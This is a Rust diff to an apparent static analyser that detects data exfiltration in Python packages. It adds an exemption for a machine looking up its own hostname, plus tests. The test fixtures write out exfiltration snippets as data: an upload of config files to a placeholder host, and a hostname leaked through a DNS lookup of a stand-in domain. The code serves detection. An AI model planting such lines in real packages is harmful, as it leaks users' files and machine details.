@@ -397,6 +397,9 @@ pub enum SinkKind {
 /// Checks whether any argument of a sink call carries source data, and reports the most
 /// severe flow when several arguments carry different data.
 pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
+    if sink == SinkKind::Network && resolves_own_host_name(checker, call) {
+        return;
+    }
     // A process's environment, directory and output streams are not what it runs: CGI servers
     // put a request's decoded credentials in the script's environment.
     let settings = |name: &str| {
@@ -644,6 +647,44 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
 }
 
 /// True for data a raw socket received.
+/// `socket.gethostbyname(socket.gethostname())`: the machine looking up its own name, as
+/// libraries do to learn their local addresses. The query names nothing but the host, and goes
+/// to the machine's own resolver; leaking the name needs a domain of the receiver's after it
+/// (`gethostbyname(hostname + '.x.example.net')`).
+fn resolves_own_host_name(checker: &Checker, call: &ExprCall) -> bool {
+    let Some(qualname) = checker.scopes.qualname(&call.func) else {
+        return false;
+    };
+    if !matches!(
+        qualname.as_str(),
+        "socket.gethostbyname"
+            | "socket.gethostbyname_ex"
+            | "socket.getaddrinfo"
+            | "socket.getfqdn"
+    ) {
+        return false;
+    }
+    let Some(host) = call.arguments.args.first() else {
+        return false;
+    };
+    let own_name = |expr: &Expr| {
+        matches!(expr, Expr::Call(inner) if checker.scopes.qualname(&inner.func).is_some_and(|q| {
+            matches!(q.as_str(), "socket.gethostname" | "platform.node" | "socket.getfqdn")
+        }))
+    };
+    match host {
+        Expr::Name(name) => {
+            checker
+                .scopes
+                .taint_of(name.id.as_str())
+                .and_then(|source| checker.sources.get(source))
+                .is_some_and(|source| source.label == "host name")
+                && checker.scopes.fold_lossy(host).is_none()
+        }
+        other => own_name(other),
+    }
+}
+
 fn is_socket_data(source: &SourceRef) -> bool {
     source.kind == SourceKind::Network && source.label.starts_with("response of socket.")
 }
@@ -1052,6 +1093,17 @@ mod tests {
         assert!(max_severity("p/pkg/__init__.py", comprehension, "WH200") >= 0.8);
         let configs = "import os, requests\nnames = ['setup.cfg', 'tox.ini']\nrequests.post('https://x.example/c', files={n: open(n, 'rb') for n in names})\n";
         assert!(max_severity("p/pkg/__init__.py", configs, "WH200") < 0.3);
+    }
+
+    #[test]
+    fn looking_up_the_machines_own_name_sends_nothing() {
+        let local = "import socket\nNAMES = ['localhost']\nNAMES.append(socket.gethostbyname(socket.gethostname()))\n";
+        assert!(max_severity("p/pkg/utils.py", local, "WH200") < 0.1);
+        let bound = "import socket\nh = socket.gethostname()\nADDR = socket.gethostbyname(h)\n";
+        assert!(max_severity("p/pkg/utils.py", bound, "WH200") < 0.1);
+        let leak =
+            "import socket\nh = socket.gethostname()\nsocket.gethostbyname(h + '.x.example.net')\n";
+        assert!(max_severity("p/pkg/__init__.py", leak, "WH200") >= 0.5);
     }
 
     #[test]
